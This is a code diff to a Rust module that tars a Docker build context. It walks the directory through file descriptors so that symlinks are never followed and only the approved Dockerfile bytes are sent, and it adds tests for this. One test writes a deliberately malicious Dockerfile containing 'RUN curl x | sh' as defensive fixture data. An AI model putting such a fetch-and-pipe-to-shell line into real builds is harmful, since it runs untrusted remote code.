@@ -3,10 +3,30 @@
 //! the context root, `*` does not cross `/`, `**` does, `!` re-includes, the
 //! last matching pattern wins, an excluded directory excludes its contents).
 //! The Dockerfile and `.dockerignore` are always sent, as the Docker CLI does.
+//!
+//! What is approved must be what is built (SPEC §5, §7): the Dockerfile is
+//! read once ([`read_dockerfile`]), its hash compared with the approved one,
+//! and exactly those bytes go into the context — the file is never read
+//! again by path. The directory is walked through file descriptors, never
+//! by path: each directory is opened relative to its parent with
+//! `O_NOFOLLOW | O_DIRECTORY`, each file with `O_NOFOLLOW`, starting from
+//! `/`, so a symlink is stored as a link and never followed, even one swapped
+//! in while the walk runs. An entry that changes kind while it is read (a
+//! directory or file that became a symlink, a file that became something
+//! else) refuses the build: the context would not be the directory that was
+//! listed. A symlinked `.dockerignore` is refused too (its lines could echo
+//! a file from elsewhere in an error); entries that vanish during the walk
+//! are left out; sockets, FIFOs and devices are never sent.
 
-use std::path::{Path, PathBuf};
+use std::ffi::OsStr;
+use std::io::Read;
+use std::os::fd::{AsFd, OwnedFd};
+use std::os::unix::ffi::OsStrExt;
+use std::path::{Component, Path, PathBuf};
 
 use globset::{GlobBuilder, GlobMatcher};
+use rustix::fs::{AtFlags, FileType, Mode, OFlags};
+use rustix::io::Errno;
 
 /// Parsed `.dockerignore` patterns.
 pub struct DockerIgnore {
@@ -81,46 +101,230 @@ fn clean(p: &str) -> String {
     parts.join("/")
 }
 
-/// Tars `dir` as a build context, honouring `dir/.dockerignore` and leaving
-/// out every path in `exclude` (e.g. `$ODEK_HOME` when it lies inside).
-/// Symlinks are stored as links, never followed. Errors are messages.
-pub fn build_context(dir: &Path, dockerfile: &str, exclude: &[PathBuf]) -> Result<Vec<u8>, String> {
-    let ignore = match std::fs::read_to_string(dir.join(".dockerignore")) {
-        Ok(t) => DockerIgnore::parse(&t)?,
-        Err(e) if e.kind() == std::io::ErrorKind::NotFound => DockerIgnore { rules: Vec::new() },
-        Err(e) => return Err(format!("cannot read .dockerignore: {e}")),
+/// Opens the directory `dir` (absolute) from `/`, one component at a time
+/// with `O_NOFOLLOW | O_DIRECTORY`: no component may be a symlink.
+fn open_dir(dir: &Path) -> Result<OwnedFd, String> {
+    let shown = || crate::config::quote(&dir.display().to_string());
+    let flags = OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC;
+    let mut fd = rustix::fs::openat(rustix::fs::CWD, "/", flags, Mode::empty())
+        .map_err(|e| format!("cannot open /: {e}"))?;
+    for c in dir.components() {
+        match c {
+            Component::RootDir => {}
+            Component::Normal(name) => {
+                fd = rustix::fs::openat(&fd, name, flags, Mode::empty()).map_err(|e| match e {
+                    Errno::LOOP | Errno::NOTDIR => format!(
+                        "{} has a component that is a symbolic link or not a directory",
+                        shown()
+                    ),
+                    e => format!("cannot open {}: {e}", shown()),
+                })?;
+            }
+            _ => return Err(format!("{} is not an absolute, normalised path", shown())),
+        }
+    }
+    Ok(fd)
+}
+
+/// Reads the regular file `name` in the directory `dir_fd` without
+/// following a symlink. `Ok(None)` when there is no such entry.
+fn read_file_at(
+    dir_fd: impl AsFd,
+    name: &OsStr,
+) -> Result<Option<(Vec<u8>, rustix::fs::Stat)>, String> {
+    let shown = || crate::config::quote(&name.to_string_lossy());
+    let fd = match rustix::fs::openat(
+        dir_fd,
+        name,
+        OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::CLOEXEC,
+        Mode::empty(),
+    ) {
+        Ok(fd) => fd,
+        Err(Errno::NOENT) => return Ok(None),
+        Err(Errno::LOOP) => return Err(format!("{} is a symbolic link", shown())),
+        Err(e) => return Err(format!("cannot open {}: {e}", shown())),
+    };
+    let st = rustix::fs::fstat(&fd).map_err(|e| format!("cannot stat {}: {e}", shown()))?;
+    if FileType::from_raw_mode(st.st_mode) != FileType::RegularFile {
+        return Err(format!("{} is not a regular file", shown()));
+    }
+    let mut bytes = Vec::new();
+    std::fs::File::from(fd)
+        .read_to_end(&mut bytes)
+        .map_err(|e| format!("cannot read {}: {e}", shown()))?;
+    Ok(Some((bytes, st)))
+}
+
+/// Reads the Dockerfile `name` in the directory `dir` once, without
+/// following a symlink anywhere on the way (see the module doc). Errors
+/// are reasons: missing, a symlink, not a regular file, unreadable.
+pub fn read_dockerfile(dir: &Path, name: &str) -> Result<Vec<u8>, String> {
+    let fd = open_dir(dir)?;
+    read_file_at(&fd, OsStr::new(name))?
+        .map(|(bytes, _)| bytes)
+        .ok_or_else(|| "it no longer exists".to_string())
+}
+
+/// A tar header for an entry of `kind` with `st`'s mode, owner and time.
+fn header(kind: tar::EntryType, st: Option<&rustix::fs::Stat>, size: u64) -> tar::Header {
+    let mut h = tar::Header::new_gnu();
+    h.set_entry_type(kind);
+    h.set_size(size);
+    match st {
+        Some(st) => {
+            h.set_mode(st.st_mode & 0o7777);
+            h.set_uid(u64::from(st.st_uid));
+            h.set_gid(u64::from(st.st_gid));
+            h.set_mtime(u64::try_from(st.st_mtime).unwrap_or(0));
+        }
+        None => h.set_mode(0o644),
+    }
+    h
+}
+
+/// Tars the directory `dir` (absolute) as a build context, honouring its
+/// `.dockerignore` and leaving out every path in `exclude` (e.g.
+/// `$ODEK_HOME` when it lies inside). The Dockerfile `dockerfile` (a name
+/// in `dir`) is stored with the contents `dockerfile_bytes`, whatever the
+/// directory holds now. Walked through file descriptors (module doc):
+/// symlinks are stored as links, never followed. Errors are messages; an
+/// entry that changed kind during the walk is one.
+pub fn build_context(
+    dir: &Path,
+    dockerfile: &str,
+    dockerfile_bytes: &[u8],
+    exclude: &[PathBuf],
+) -> Result<Vec<u8>, String> {
+    let root = open_dir(dir)?;
+    let ignore_bytes = read_file_at(&root, OsStr::new(".dockerignore"))
+        .map_err(|e| format!("{e}; .dockerignore must be a regular file"))?;
+    let ignore = match &ignore_bytes {
+        Some((b, _)) => DockerIgnore::parse(&String::from_utf8_lossy(b))?,
+        None => DockerIgnore { rules: Vec::new() },
     };
     let mut tar = tar::Builder::new(Vec::new());
-    tar.follow_symlinks(false);
-    let mut stack = vec![PathBuf::new()];
-    while let Some(rel_dir) = stack.pop() {
-        let abs = dir.join(&rel_dir);
-        let mut entries: Vec<_> = std::fs::read_dir(&abs)
-            .map_err(|e| format!("cannot read {}: {e}", abs.display()))?
+    let add = |tar: &mut tar::Builder<Vec<u8>>, h: &mut tar::Header, rel: &Path, data: &[u8]| {
+        tar.append_data(h, rel, data)
+            .map_err(|e| format!("cannot add {}: {e}", rel.display()))
+    };
+    add(
+        &mut tar,
+        &mut header(tar::EntryType::Regular, None, dockerfile_bytes.len() as u64),
+        Path::new(dockerfile),
+        dockerfile_bytes,
+    )?;
+    if let Some((b, st)) = &ignore_bytes {
+        if dockerfile != ".dockerignore" {
+            add(
+                &mut tar,
+                &mut header(tar::EntryType::Regular, Some(st), b.len() as u64),
+                Path::new(".dockerignore"),
+                b,
+            )?;
+        }
+    }
+    let changed = |rel: &Path, now: &str| {
+        format!(
+            "{} changed while the build context was read ({now}); nothing was built",
+            crate::config::quote(&rel.display().to_string())
+        )
+    };
+    let mut stack = vec![(root, PathBuf::new())];
+    while let Some((dir_fd, rel_dir)) = stack.pop() {
+        let shown = || dir.join(&rel_dir).display().to_string();
+        let mut names: Vec<Vec<u8>> = rustix::fs::Dir::read_from(&dir_fd)
+            .map_err(|e| format!("cannot read {}: {e}", shown()))?
+            .map(|e| e.map(|e| e.file_name().to_bytes().to_vec()))
             .collect::<Result<_, _>>()
-            .map_err(|e| format!("cannot read {}: {e}", abs.display()))?;
-        entries.sort_by_key(|e| e.file_name());
-        for entry in entries {
-            let rel = rel_dir.join(entry.file_name());
+            .map_err(|e| format!("cannot read {}: {e}", shown()))?;
+        names.retain(|n| n != b"." && n != b"..");
+        names.sort();
+        for name in names {
+            let name = OsStr::from_bytes(&name);
+            let rel = rel_dir.join(name);
             let rel_s = rel.to_string_lossy().replace('\\', "/");
-            let path = entry.path();
-            if exclude.iter().any(|x| path.starts_with(x)) {
+            if exclude.iter().any(|x| dir.join(&rel).starts_with(x)) {
                 continue;
             }
-            let always = rel_s == dockerfile || rel_s == ".dockerignore";
-            if !always && ignore.excluded(&rel_s) {
+            // Sent above, from the bytes already read.
+            if rel_s == dockerfile || rel_s == ".dockerignore" {
                 continue;
             }
-            let ft = entry
-                .file_type()
-                .map_err(|e| format!("cannot stat {}: {e}", path.display()))?;
-            if ft.is_dir() {
-                tar.append_dir(&rel, &path)
-                    .map_err(|e| format!("cannot add {}: {e}", path.display()))?;
-                stack.push(rel);
-            } else if ft.is_file() || ft.is_symlink() {
-                tar.append_path_with_name(&path, &rel)
-                    .map_err(|e| format!("cannot add {}: {e}", path.display()))?;
+            if ignore.excluded(&rel_s) {
+                continue;
+            }
+            let st = match rustix::fs::statat(&dir_fd, name, AtFlags::SYMLINK_NOFOLLOW) {
+                Ok(st) => st,
+                Err(Errno::NOENT) => continue,
+                Err(e) => return Err(format!("cannot stat {}: {e}", rel.display())),
+            };
+            match FileType::from_raw_mode(st.st_mode) {
+                FileType::Directory => {
+                    let fd = match rustix::fs::openat(
+                        &dir_fd,
+                        name,
+                        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
+                        Mode::empty(),
+                    ) {
+                        Ok(fd) => fd,
+                        Err(Errno::NOENT) => continue,
+                        Err(Errno::LOOP | Errno::NOTDIR) => {
+                            return Err(changed(
+                                &rel,
+                                "a directory became a symbolic link or a file",
+                            ))
+                        }
+                        Err(e) => return Err(format!("cannot open {}: {e}", rel.display())),
+                    };
+                    let st = rustix::fs::fstat(&fd)
+                        .map_err(|e| format!("cannot stat {}: {e}", rel.display()))?;
+                    add(
+                        &mut tar,
+                        &mut header(tar::EntryType::Directory, Some(&st), 0),
+                        &rel,
+                        &[],
+                    )?;
+                    stack.push((fd, rel));
+                }
+                FileType::RegularFile => match read_file_at(&dir_fd, name) {
+                    Ok(Some((bytes, st))) => add(
+                        &mut tar,
+                        &mut header(tar::EntryType::Regular, Some(&st), bytes.len() as u64),
+                        &rel,
+                        &bytes,
+                    )?,
+                    Ok(None) => continue,
+                    Err(_) => {
+                        return Err(changed(
+                            &rel,
+                            "a file became a symbolic link or another kind of file",
+                        ))
+                    }
+                },
+                FileType::Symlink => {
+                    let target = match rustix::fs::readlinkat(&dir_fd, name, Vec::new()) {
+                        Ok(t) => t,
+                        Err(Errno::NOENT) => continue,
+                        Err(Errno::INVAL) => {
+                            return Err(changed(
+                                &rel,
+                                "a symbolic link became another kind of file",
+                            ))
+                        }
+                        Err(e) => {
+                            return Err(format!("cannot read the link {}: {e}", rel.display()))
+                        }
+                    };
+                    let target = PathBuf::from(OsStr::from_bytes(target.to_bytes()));
+                    tar.append_link(
+                        &mut header(tar::EntryType::Symlink, Some(&st), 0),
+                        &rel,
+                        &target,
+                    )
+                    .map_err(|e| format!("cannot add {}: {e}", rel.display()))?;
+                }
+                // Sockets, FIFOs and devices are never sent.
+                _ => {}
             }
         }
     }
@@ -160,20 +364,117 @@ mod tests {
         std::fs::write(root.join("b.secret"), "b").expect("w");
         std::fs::create_dir(root.join(".odek")).expect("mkdir");
         std::fs::write(root.join(".odek/project_sandbox_approvals.json"), "{}").expect("w");
-        let tar = build_context(root, "Dockerfile.odek", &[root.join(".odek")]).expect("tar");
-        let mut ar = tar::Archive::new(tar.as_slice());
-        let mut names: Vec<String> = ar
-            .entries()
-            .expect("entries")
-            .map(|e| {
-                e.expect("entry")
-                    .path()
-                    .expect("path")
-                    .to_string_lossy()
-                    .into_owned()
-            })
-            .collect();
+        let tar = build_context(
+            root,
+            "Dockerfile.odek",
+            b"FROM scratch\n",
+            &[root.join(".odek")],
+        )
+        .expect("tar");
+        let mut names: Vec<String> = entries(&tar).into_iter().map(|(n, _, _)| n).collect();
         names.sort();
         assert_eq!(names, vec![".dockerignore", "Dockerfile.odek", "a.txt"]);
+    }
+
+    /// (path, kind, contents or link target) of each entry.
+    fn entries(tar: &[u8]) -> Vec<(String, tar::EntryType, Vec<u8>)> {
+        let mut ar = tar::Archive::new(tar);
+        ar.entries()
+            .expect("entries")
+            .map(|e| {
+                let mut e = e.expect("entry");
+                let name = e.path().expect("path").to_string_lossy().into_owned();
+                let kind = e.header().entry_type();
+                let mut data = Vec::new();
+                if kind == tar::EntryType::Symlink {
+                    data = e
+                        .link_name_bytes()
+                        .map(|b| b.into_owned())
+                        .unwrap_or_default();
+                } else {
+                    e.read_to_end(&mut data).expect("read");
+                }
+                (name.trim_end_matches('/').to_string(), kind, data)
+            })
+            .collect()
+    }
+
+    #[test]
+    fn the_tar_carries_the_verified_bytes_not_the_file_on_disk() {
+        let d = tempfile::tempdir().expect("tempdir");
+        let root = d.path().canonicalize().expect("canonical");
+        std::fs::write(root.join("Dockerfile.odek"), "FROM evil\nRUN curl x | sh\n").expect("w");
+        let tar = build_context(&root, "Dockerfile.odek", b"FROM approved\n", &[]).expect("tar");
+        let df: Vec<_> = entries(&tar)
+            .into_iter()
+            .filter(|(n, _, _)| n == "Dockerfile.odek")
+            .collect();
+        assert_eq!(df.len(), 1, "one Dockerfile entry");
+        assert_eq!(df[0].2, b"FROM approved\n");
+        // Even with the file gone from the directory.
+        std::fs::remove_file(root.join("Dockerfile.odek")).expect("rm");
+        let tar = build_context(&root, "Dockerfile.odek", b"FROM approved\n", &[]).expect("tar");
+        assert!(entries(&tar)
+            .iter()
+            .any(|(n, _, b)| n == "Dockerfile.odek" && b == b"FROM approved\n"));
+    }
+
+    #[test]
+    fn symlinks_are_stored_as_links_and_never_followed() {
+        let d = tempfile::tempdir().expect("tempdir");
+        let root = d.path().canonicalize().expect("canonical");
+        let outside = root.join("outside");
+        std::fs::create_dir(&outside).expect("mkdir");
+        std::fs::write(outside.join("secret"), "s3cr3t").expect("w");
+        let ctx = root.join("ctx");
+        std::fs::create_dir_all(ctx.join("sub")).expect("mkdir");
+        std::fs::write(ctx.join("sub/a"), "a").expect("w");
+        std::os::unix::fs::symlink(&outside, ctx.join("linkdir")).expect("symlink");
+        std::os::unix::fs::symlink(outside.join("secret"), ctx.join("linkfile")).expect("symlink");
+        let tar = build_context(&ctx, "Dockerfile.odek", b"FROM x\n", &[]).expect("tar");
+        let all = entries(&tar);
+        let kind = |name: &str| all.iter().find(|(n, _, _)| n == name).map(|(_, k, _)| *k);
+        assert_eq!(kind("sub"), Some(tar::EntryType::Directory));
+        assert_eq!(kind("sub/a"), Some(tar::EntryType::Regular));
+        assert_eq!(kind("linkdir"), Some(tar::EntryType::Symlink));
+        assert_eq!(kind("linkfile"), Some(tar::EntryType::Symlink));
+        assert!(
+            all.iter()
+                .all(|(n, _, b)| !n.starts_with("linkdir/") && b != b"s3cr3t"),
+            "nothing from outside: {:?}",
+            all.iter().map(|(n, _, _)| n).collect::<Vec<_>>()
+        );
+        // The context directory itself reached through a symlink is refused.
+        std::os::unix::fs::symlink(&ctx, root.join("ctxlink")).expect("symlink");
+        let e = build_context(&root.join("ctxlink"), "Dockerfile.odek", b"FROM x\n", &[])
+            .expect_err("symlinked context");
+        assert!(e.contains("symbolic link"), "{e}");
+        // A symlinked .dockerignore is refused (its lines could echo a file).
+        std::os::unix::fs::symlink(outside.join("secret"), ctx.join(".dockerignore"))
+            .expect("symlink");
+        let e =
+            build_context(&ctx, "Dockerfile.odek", b"FROM x\n", &[]).expect_err("symlinked ignore");
+        assert!(e.contains(".dockerignore"), "{e}");
+    }
+
+    #[test]
+    fn the_dockerfile_is_read_without_following_symlinks() {
+        let d = tempfile::tempdir().expect("tempdir");
+        let root = d.path().canonicalize().expect("canonical");
+        std::fs::write(root.join("real"), "FROM x\n").expect("w");
+        assert!(read_dockerfile(&root, "Dockerfile.odek")
+            .expect_err("missing")
+            .contains("no longer exists"));
+        std::os::unix::fs::symlink(root.join("real"), root.join("Dockerfile.odek"))
+            .expect("symlink");
+        assert!(read_dockerfile(&root, "Dockerfile.odek")
+            .expect_err("symlink")
+            .contains("symbolic link"));
+        std::fs::remove_file(root.join("Dockerfile.odek")).expect("rm");
+        std::fs::write(root.join("Dockerfile.odek"), "FROM y\n").expect("w");
+        assert_eq!(
+            read_dockerfile(&root, "Dockerfile.odek").expect("read"),
+            b"FROM y\n"
+        );
     }
 }
